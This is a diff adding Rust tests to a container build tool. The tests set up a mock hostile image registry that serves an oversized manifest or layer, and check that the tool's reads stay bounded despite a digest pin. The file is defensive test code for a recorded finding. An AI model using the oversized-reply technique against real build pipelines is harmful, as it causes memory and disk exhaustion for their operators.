+    for e in entries.flatten() {
+        let path = e.path();
+        match e.file_type() {
+            Ok(t) if t.is_dir() => files.extend(walk(&path)),
+            Ok(t) if t.is_file() => files.push(path),
+            _ => {}
+        }
+    }
+    files
+}
+
+// --- base images pulled from a hostile registry ------------------------
+
+/// A hostile registry serving a base image pinned by digest whose
+/// manifest (`huge` = `manifest`) or only layer (`layer`) is [`HUGE`]
+/// bytes long; a project whose stage uses it. The pin is of the honest
+/// manifest: kiln can only find out by reading.
+fn endless_base(huge: &'static str) -> (Hostile, Project) {
+    let layer_bytes = layer(Compress::Gzip, |b| file(b, "f", 0o644, b"base\n")).bytes;
+    let config = serde_json::to_vec(&serde_json::json!({
+        "architecture": "amd64", "os": "linux",
+        "config": { "Env": ["PATH=/bin"] },
+        "rootfs": { "type": "layers", "diff_ids": [Digest::of(b"x").to_string()] },
+    }))
+    .expect("JSON");
+    let man = serde_json::to_vec(&serde_json::json!({
+        "schemaVersion": 2,
+        "mediaType": MANIFEST_TYPE,
+        "config": {
+            "mediaType": "application/vnd.oci.image.config.v1+json",
+            "digest": Digest::of(&config).to_string(), "size": config.len(),
+        },
+        "layers": [{
+            "mediaType": "application/vnd.oci.image.layer.v1.tar+gzip",
+            "digest": Digest::of(&layer_bytes).to_string(), "size": layer_bytes.len(),
+        }],
+    }))
+    .expect("JSON");
+    let pin = Digest::of(&man);
+    let (config_at, layer_at) = (
+        format!("/blobs/{}", Digest::of(&config)),
+        format!("/blobs/{}", Digest::of(&layer_bytes)),
+    );
+    let hostile = Hostile::start(move |req| {
+        let p = req.path.as_str();
+        let part = if p.contains("/manifests/") {
+            "manifest"
+        } else if p.ends_with(&config_at) {
+            "config"
+        } else if p.ends_with(&layer_at) {
+            "layer"
+        } else {
+            return base(req);
+        };
+        if part == huge {
+            let content_type = match part {
+                "manifest" => MANIFEST_TYPE,
+                _ => "application/octet-stream",
+            };
+            return Reply::Huge {
+                content_type,
+                len: HUGE,
+            };
+        }
+        match part {
+            "manifest" => ok(MANIFEST_TYPE, man.clone()),
+            "config" => ok("application/octet-stream", config.clone()),
+            _ => ok("application/octet-stream", layer_bytes.clone()),
+        }
+    });
+    let spec = format!(
+        "base b {{ image \"{}/img@{pin}\" }}\nstage s {{ from b; run \"echo hi > $out/f\" }}\n",
+        hostile.host
+    );
+    (hostile, Project::new(&spec))
+}
+
+fn assert_bounded_base_read(huge: &'static str) {
+    let (hostile, p) = endless_base(huge);
+    let out = p.kiln(&["build", "--json"]);
+    assert!(!out.status.success(), "the base cannot be pulled");
+    // What was read is gone, whatever the outcome.
+    assert_no_leftovers(&p);
+    let sent = hostile.sent.load(Ordering::SeqCst);
+    assert!(
+        sent < BOUND,
+        "kiln read {} MiB of a base {huge} whose pinned size is a few hundred bytes\n{}",
+        sent / MIB,
+        stderr(&out)
+    );
+}
+
+#[test]
+#[ignore = "finding 3: a pinned base's manifest is read whole into memory, however long"]
+fn a_huge_base_manifest_is_not_read_whole() {
+    assert_bounded_base_read("manifest");
+}
+
+#[test]
+#[ignore = "finding 3: a base layer is written to disk past its descriptor's size"]
+fn a_base_layer_longer_than_its_descriptor_is_not_read_whole() {
+    assert_bounded_base_read("layer");
+}
